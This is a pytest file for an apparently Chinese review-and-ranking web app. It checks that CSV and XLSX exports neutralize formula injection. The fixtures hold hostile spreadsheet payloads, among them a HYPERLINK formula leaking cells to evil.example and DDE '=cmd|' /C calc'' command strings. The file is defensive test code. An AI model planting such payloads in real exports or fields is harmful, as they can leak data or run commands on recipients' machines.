"""Exports never carry formulas (issue 19, item 2).

Titles, copyright holders, an override reason, the chair's and a member's dissent, an expert's
name and explanation and a chair's waiver that start like formulas go through every CSV and
XLSX the product writes (shortlist and rankings, from the API and the review page; the
announcement; the conduct review; the rejected rows of an import); each is read back with the
csv module or openpyxl: no formula cell, no text that starts with a dangerous character, the
hostile text still there behind its quote, and the numbers still numbers.
"""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from helpers.conduct import conduct_panel
from helpers.review import scored_round
from testkit import PASSWORD
from web.core.spreadsheet import FORMULA_STARTS, neutralize
from helpers.api import bearer as token

KEY = "2025Q1"
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "holder": "=cmd|' /C calc'!A0",
    "title2": "＝1+1 全角等号",
    "holder2": "  \t@SUM(A1:A9)",
    "title3": "－2+3 全角减号",
    "reason": "+1+cmd|' /C calc'!A0",
    "chair_dissent": "\r=2+5",
    "member_dissent": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\u3000=1", " \t @x",
                                  "＝1", "＋1", "－1", "＠x", "-"])
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("value", ["山河人间", "", " 山河", "1+1", "a=b", "2025-01-05", 3, -2.5, 0.0, None, True])
def test_other_values_are_left_as_they_are(value):
    assert neutralize(value) is value


def dangerous(text: str) -> bool:
    return text.lstrip(" \u3000")[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS


def check_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    bad = [cell for row in rows for cell in row if dangerous(cell)]
    assert not bad, bad
    return rows


def check_xlsx(data: bytes) -> openpyxl.Workbook:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and dangerous(cell.value)), (sheet.title, cell.coordinate)
    return book


def texts_of(book: openpyxl.Workbook) -> set[str]:
    return {c for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r if isinstance(c, str)}


@pytest.fixture
def signed(client, session, make_user):
    """A signed round whose top works carry hostile titles and holders, with an override and two dissents."""
    _round, works, experts = scored_round(session, make_user, key=KEY)
    for work, title, holder in ((works[0], "title", "holder"), (works[1], "title2", "holder2"),
                                (works[8], "title3", "holder")):
        work.title, work.copyright_holder = HOSTILE[title], HOSTILE[holder]
        session.add(work)
    session.commit()
    make_user("chair1", role="chair", display_name="李组长")
    chair = token(client, "chair1")
    assert client.post(f"/api/v1/rounds/{KEY}/shortlist", json={}, headers=chair).status_code == 201
    entries = client.get(f"/api/v1/rounds/{KEY}/shortlist", headers=chair).get_json()["entries"]
    outside = next(e for e in entries if not e["included"])
    assert client.post(f"/api/v1/rounds/{KEY}/shortlist/entries/{outside['entry_id']}",
                       json={"included": True, "reason": HOSTILE["reason"]}, headers=chair).status_code == 200
    assert client.post(f"/api/v1/rounds/{KEY}/shortlist/signoff",
                       json={"password": PASSWORD, "dissent": HOSTILE["chair_dissent"]},
                       headers=chair).status_code == 201
    member = token(client, experts[0].username)
    assert client.post(f"/api/v1/rounds/{KEY}/shortlist/signoff",
                       json={"password": PASSWORD, "dissent": HOSTILE["member_dissent"]},
                       headers=member).status_code == 201
    return chair


def test_shortlist_and_rankings_exports_carry_no_formula(client, signed, make_user, login):
    for scope in ("shortlist", "rankings"):
        url = f"/api/v1/rounds/{KEY}/shortlist.%s?scope={scope}"
        rows = check_csv(client.get(url % "csv", headers=signed).data)
        cells = {cell for row in rows for cell in row}
        # the chair's dissent arrives stripped of its carriage return, then starts with "="
        assert {"'" + HOSTILE[k].strip() for k in ("title", "title2", "reason", "chair_dissent", "member_dissent")
                } <= cells
        overridden = next(row for row in rows if len(row) > 13 and row[13] == "'" + HOSTILE["reason"])
        assert overridden[9:11] == ["是", "否"]  # included against the proposal, the reason beside it
        book = check_xlsx(client.get(url % "xlsx", headers=signed).data)
        found = texts_of(book)
        assert "'" + HOSTILE["title"] in found and "'" + HOSTILE["reason"] in found
        assert any(HOSTILE["member_dissent"] in text for text in found)
        scores = [row[3] for s in book.worksheets[:-1] for row in s.iter_rows(min_row=2, values_only=True)]
        assert scores and all(isinstance(v, float) for v in scores)  # numbers stay numbers
    make_user("admin1", role="admin")
    login("chair1")
    for fmt in ("csv", "xlsx"):
        answer = client.get(f"/review/{KEY}/export.{fmt}?scope=rankings")
        assert answer.status_code == 200
        check_csv(answer.data) if fmt == "csv" else check_xlsx(answer.data)


def test_the_announcement_carries_no_formula(client, signed):
    rows = check_csv(client.get(f"/api/v1/rounds/{KEY}/announcement.csv", headers=signed).data)
    producers = {row[3] for row in rows[1:]}
    assert "'" + HOSTILE["holder"] in producers and "'" + HOSTILE["holder2"] in producers
    assert "'" + HOSTILE["title"] in {row[2] for row in rows[1:]}
    book = check_xlsx(client.get(f"/api/v1/rounds/{KEY}/announcement.xlsx", headers=signed).data)
    assert "'" + HOSTILE["title2"] in texts_of(book)
    numbers = [row[0] for row in book["公示名单"].iter_rows(min_row=3, values_only=True)]
    numbers = numbers[:numbers.index(None)]  # then a blank row, the issuing body and the date (#21)
    assert numbers and all(isinstance(n, int) for n in numbers)


def test_the_conduct_review_carries_no_formula(client, session, make_user, login):
    panel = conduct_panel(session, make_user)
    zhang = panel.experts["张专家"]
    zhang.display_name = "=cmd|' /C calc'!A0"
    panel.works[2].title = HOSTILE["title"]
    session.add_all([zhang, panel.works[2]])
    session.commit()
    make_user("admin1", role="admin")
    login("admin1")
    book = check_xlsx(client.get(f"/admin/conduct/{KEY}/export.xlsx").data)
    found = texts_of(book)
    assert "'=cmd|' /C calc'!A0" in found and "'" + HOSTILE["title"] in found
    sheet = book["履职评价"]
    assert all(isinstance(v, int) for v in next(sheet.iter_rows(min_row=4, max_col=3, values_only=True))[1:])


def test_the_rejected_rows_csv_carries_no_formula(app, runner, session, tmp_path):
    from helpers.intake import KEYS, csv_bytes, work_row
    from web.rounds.operations import create_round, set_state

    round_ = create_round(session=session, key=KEY, actor="t")
    set_state(session=session, round_=round_, state="intake", actor="t")
    session.commit()
    app.config["TODAY"] = "2025-03-20"
    good, bad = work_row(1), work_row(2, title=HOSTILE["title"], category="=1+1")
    path = tmp_path / "works.csv"
    path.write_bytes(csv_bytes([good, bad]))
    result = runner.invoke(args=["import-works", str(path), "--round", KEY, "--accept-valid"])
    assert result.exit_code == 1, result.output
    rows = check_csv((tmp_path / "works.csv.rejected.csv").read_bytes())
    assert rows[1][1 + KEYS.index("title")] == "'" + HOSTILE["title"]
    assert rows[1][1 + KEYS.index("category")] == "'=1+1"

